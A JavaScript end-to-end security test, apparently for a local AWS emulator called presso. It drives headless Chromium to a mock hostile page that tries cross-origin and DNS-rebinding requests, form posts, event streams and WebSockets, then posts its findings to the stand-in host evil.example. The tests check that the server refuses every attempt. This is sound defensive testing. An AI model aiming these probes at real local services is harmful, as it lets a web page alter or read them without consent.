// What a page from elsewhere gets at in a real browser: Chromium, headless. The page tries all that
// a script can, both as a page of another origin and as one whose name was rebound to presso, so
// that it is of presso's own origin as far as the browser knows. It may neither act nor read.
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { createServer } from 'node:http';
import { connect, createServer as createRelay } from 'node:net';
import { test } from 'node:test';

import { ListStateMachinesCommand } from '@aws-sdk/client-sfn';

import { clients, serverFor, temporaryFolder } from '../e2e/support.mjs';

const isThere = () => {
  try {
    return execFileSync('chromium', ['--version'], { encoding: 'utf8' }).length > 0;
  } catch {
    return false;
  }
};
const skip = isThere() ? false : "no `chromium` (Debian's package)";
const patience = 60_000;

// Runs in the browser. `target`: presso's origin, as the page sees it.
const attack = async (target) => {
  const told = {};
  const definition = '{"StartAt":"P","States":{"P":{"Type":"Pass","End":true}}}';
  const roleArn = 'arn:aws:iam::000000000000:role/r';
  const body = JSON.stringify({ name: 'evil', definition, roleArn });
  const attempt = async (name, run) => {
    try {
      told[name] = await run();
    } catch (error) {
      told[name] = `refused: ${error.name}`;
    }
  };
  const send = (path, options) => async () => {
    const answer = await fetch(target + path, options);
    return `${answer.type} ${answer.status} ${(await answer.text()).slice(0, 200)}`;
  };
  const plain = { 'content-type': 'text/plain' };
  const amazon = { 'content-type': 'application/x-amz-json-1.0' };
  const named = { ...amazon, 'x-amz-target': 'AWSStepFunctions.CreateStateMachine' };
  const post = (headers, more = {}) => ({ method: 'POST', headers, body, ...more });
  const blind = { mode: 'no-cors' };
  const advance = '{"advance_seconds":3600}';
  const group = { method: 'POST', headers: plain, body: '{}' };
  for (const [name, path, options] of [
    ['call', '/', post(named)],
    ['call without its name', '/', post(amazon)],
    ['simple call', '/', post(plain)],
    ['blind call', '/', post(plain, blind)],
    ['reset', '/_presso/reset', { method: 'POST' }],
    ['blind reset', '/_presso/reset', { method: 'POST', ...blind }],
    ['clock', '/_presso/clock', { method: 'POST', body: advance }],
    ['blind clock', '/_presso/clock', { method: 'POST', body: advance, ...blind }],
    ['mocks', '/_presso/mocks', { method: 'PUT', body: '[]' }],
    ['group', '/schedule-groups/evil', group],
    ['blind group', '/schedule-groups/evil', { ...group, ...blind }],
    ['function', '/2015-03-31/functions/f/invocations', { method: 'POST', body: '{}' }],
    ['read clock', '/_presso/clock', {}],
    ['read page', '/_presso/', {}],
    ['read metrics', '/metrics', {}],
    ['read schedules', '/schedules', {}],
    ['read groups', '/schedule-groups', {}],
    ['read a bucket', '/bucket/key', { headers: { authorization: 'AWS4-HMAC-SHA256 x' } }],
  ]) {
    await attempt(name, send(path, options));
  }
  const loaded = (element) =>
    new Promise((resolve) => {
      element.onload = () => resolve('loaded');
      element.onerror = () => resolve('refused: error');
      document.body.append(element);
      setTimeout(() => resolve('refused: no answer'), 2000);
    });
  const element = (name, properties) => Object.assign(document.createElement(name), properties);
  for (const path of ['/_presso/reset', '/_presso/clock', '/_presso/events']) {
    await attempt(`image ${path}`, () => loaded(element('img', { src: target + path })));
    await attempt(`script ${path}`, () => loaded(element('script', { src: target + path })));
  }
  const frame = element('iframe', { name: 'frame' });
  document.body.append(frame);
  for (const path of ['/', '/_presso/reset', '/_presso/clock', '/schedule-groups/evil']) {
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded']) {
      const form = element('form', { method: 'POST', action: target + path, enctype });
      form.target = 'frame';
      form.append(element('input', { name: body, value: '' }));
      document.body.append(form);
      form.submit();
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
  }
  await attempt(
    'stream',
    () =>
      new Promise((resolve) => {
        const stream = new EventSource(`${target}/_presso/events`);
        stream.onopen = () => resolve('opened');
        stream.onerror = () => resolve('refused: error');
      }),
  );
  await attempt(
    'socket',
    () =>
      new Promise((resolve) => {
        const socket = new WebSocket(`${target.replace('http', 'ws')}/_presso/events`);
        socket.onopen = () => resolve('opened');
        socket.onerror = () => resolve('refused: error');
      }),
  );
  return told;
};

const page = (target, home) => `<!doctype html><title>evil</title><body><script>
(${attack})(${JSON.stringify(target)})
  .then((told) => JSON.stringify(told), (error) => JSON.stringify({ failed: String(error) }))
  .then((body) => fetch('${home}/evil/told', { method: 'POST', mode: 'no-cors', body }));
</script>`;

// The page's own server: GET /evil, and what the page tells it in the end.
async function attacker(t, target) {
  let heard;
  const told = new Promise((resolve) => {
    heard = resolve;
  });
  const home = () => `http://evil.example:${server.address().port}`;
  const server = createServer((request, response) => {
    const chunks = [];
    request.on('data', (chunk) => chunks.push(chunk));
    request.on('end', () => {
      response.writeHead(200, { 'content-type': 'text/html', connection: 'close' });
      if (request.method === 'GET') return response.end(page(target(), home()));
      heard(JSON.parse(Buffer.concat(chunks).toString('utf8')));
      return response.end();
    });
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  return { port: server.address().port, told };
}

// One port of which the page is served at first and presso afterwards, as a name that is rebound
// leads to: each connection goes, as it is, to whom its first request is for.
async function relay(t, evilPort, pressoPort) {
  const sockets = new Set();
  const keep = (socket) => sockets.add(socket.on('error', () => socket.destroy()));
  const server = createRelay((socket) => {
    keep(socket);
    socket.once('data', (first) => {
      const isEvil = /^(GET|POST) \/evil/.test(String(first));
      const onward = connect(isEvil ? evilPort : pressoPort, '127.0.0.1');
      keep(onward);
      onward.write(first);
      socket.pipe(onward).pipe(socket);
    });
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => {
    for (const socket of sockets) socket.destroy();
    server.close();
  });
  return server.address().port;
}

async function visit(t, url, told) {
  const browser = spawn(
    'chromium',
    [
      '--headless=new',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-dev-shm-usage',
      '--no-proxy-server',
      '--host-resolver-rules=MAP *.example 127.0.0.1',
      `--user-data-dir=${temporaryFolder(t)}`,
      url,
    ],
    { stdio: 'ignore' },
  );
  const over = new Promise((resolve) => browser.once('exit', resolve));
  const late = new Promise((resolve) => setTimeout(() => resolve(null), patience).unref());
  const result = await Promise.race([told, late, over.then(() => null)]);
  browser.kill('SIGKILL');
  await over;
  assert.ok(result, 'the page told nothing');
  assert.equal(result.failed, undefined);
  return result;
}

async function stateOf(url) {
  const read = async (path) => JSON.parse(await (await fetch(url + path)).text());
  const { stateMachines } = await clients(url).states.send(new ListStateMachinesCommand({}));
  return {
    machines: stateMachines.map(({ name }) => name),
    offset: (await read('/_presso/clock')).offset_seconds,
    groups: (await read('/schedule-groups')).ScheduleGroups.map(({ Name }) => Name),
    mocks: (await read('/_presso/mocks')).mocks,
  };
}

const untouched = { machines: [], offset: 0, groups: ['default'], mocks: [] };

// `origin`: "other", or "rebound". What the page was told, and what is different now.
async function attacked(t, origin, options = []) {
  const presso = await serverFor(t, { options });
  const pressoPort = Number(new URL(presso.url).port);
  let target = `http://127.0.0.1:${pressoPort}`;
  const evil = await attacker(t, () => target);
  let port = evil.port;
  if (origin === 'rebound') {
    port = await relay(t, evil.port, pressoPort);
    target = `http://rebind.example:${port}`;
  }
  assert.deepEqual(await stateOf(presso.url), untouched);
  const told = await visit(t, `http://rebind.example:${port}/evil`, evil.told);
  return { told, state: await stateOf(presso.url) };
}

// Neither an answer of any use nor a stream; a blind answer is opaque.
const isRefused = (answer) =>
  /^refused: /.test(answer) || /^opaque 0 /.test(answer) || /^(basic|cors) 40[03] /.test(answer);

for (const origin of ['other', 'rebound']) {
  test(`a page whose origin is ${origin} neither acts nor reads`, { skip }, async (t) => {
    const { told, state } = await attacked(t, origin);
    assert.deepEqual(state, untouched);
    const answered = Object.entries(told).filter(([, answer]) => !isRefused(answer));
    assert.deepEqual(answered, []);
    assert.ok(Object.keys(told).length >= 26, JSON.stringify(told));
  });

  test(`the same page does act when its origin, ${origin}, is allowed`, { skip }, async (t) => {
    const { told, state } = await attacked(t, origin, ['--allow-origin', '*']);
    assert.ok(state.offset >= 3600);
    for (const name of ['call', 'group', 'read clock', 'read groups']) {
      assert.match(told[name], / 200 /, name);
    }
    assert.equal(told.stream, 'opened');
  });
}
